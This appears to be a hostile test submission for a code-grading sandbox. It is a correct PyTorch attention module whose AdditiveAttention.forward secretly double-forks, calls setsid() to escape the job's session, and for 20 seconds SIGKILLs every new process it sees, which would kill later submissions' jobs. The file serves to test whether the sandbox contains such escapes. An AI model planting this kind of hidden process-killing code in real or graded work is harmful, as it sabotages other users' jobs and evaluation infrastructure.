"""attack: outlive the job: AdditiveAttention.forward forks a grandchild that calls setsid() (leaving the
job's process group and session) and forks again, and the survivor, for up to 20 s, kills every new
process it can see (the children of later submissions), then exits. The attacker's code is correct.
expect: the end of the job kills the survivor however it left the session (bubblewrap: kill(-1) in
the job's pid namespace; process mode as root: kill(-1) from the job's own uid), so the attacker gets
full marks, no process of the job outlives it, and the next submission on the same fork server gets
full marks.
"""
import math
import os
import signal
import time

import torch
from torch import nn


def _in_sandbox():  # hostile calls run only in a sandboxed job (its working folder), in either mode
    return os.path.basename(os.getcwd()).startswith("job-") or os.environ.get("HOSTILE_ANYWHERE") == "1"


def _targets():
    """The fork server: our parent (the job's first process) and pid 1 (bubblewrap's namespace init)."""
    return sorted({1, os.getppid()})


_started = []


def _attack():
    """Starts the survivor once; nothing to report (the test looks for survivors)."""
    if not _in_sandbox() or _started:
        return []
    _started.append(True)
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() != 0:
                os._exit(0)
            seen = {int(p) for p in os.listdir("/proc") if p.isdigit()}
            end = time.monotonic() + 20
            while time.monotonic() < end:
                for p in os.listdir("/proc"):
                    if p.isdigit() and int(p) not in seen and int(p) != os.getpid():
                        seen.add(int(p))
                        try:
                            os.kill(int(p), signal.SIGKILL)
                        except OSError:
                            pass
                time.sleep(0.01)
        finally:
            os._exit(0)
    return []


def sequence_mask(X, valid_len, value=0):
    keep = torch.arange(X.shape[1], device=X.device).unsqueeze(0) < valid_len.unsqueeze(1)
    return X.masked_fill(~keep, value)


def masked_softmax(X, valid_lens):
    if valid_lens is None:
        return torch.softmax(X, dim=-1)
    shape = X.shape
    if valid_lens.dim() == 1:
        valid_lens = torch.repeat_interleave(valid_lens, shape[1])
    else:
        valid_lens = valid_lens.reshape(-1)
    X = sequence_mask(X.reshape(-1, shape[-1]), valid_lens, value=-1e6)
    return torch.softmax(X.reshape(shape), dim=-1)


class AdditiveAttention(nn.Module):
    def __init__(self, key_size, query_size, num_hiddens, dropout, **kwargs):
        super().__init__(**kwargs)
        self.W_k = nn.Linear(key_size, num_hiddens, bias=False)
        self.W_q = nn.Linear(query_size, num_hiddens, bias=False)
        self.w_v = nn.Linear(num_hiddens, 1, bias=False)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens):
        won = _attack()
        if won:
            print("ATTACK SUCCEEDED:", won)
            return values * 0  # a successful attack shows as a lost score
        queries, keys = self.W_q(queries), self.W_k(keys)
        features = torch.tanh(queries.unsqueeze(2) + keys.unsqueeze(1))
        scores = self.w_v(features).squeeze(-1)
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)


class DotProductAttention(nn.Module):
    def __init__(self, dropout, **kwargs):
        super().__init__(**kwargs)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        scores = torch.bmm(queries, keys.transpose(1, 2)) / math.sqrt(queries.shape[-1])
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)
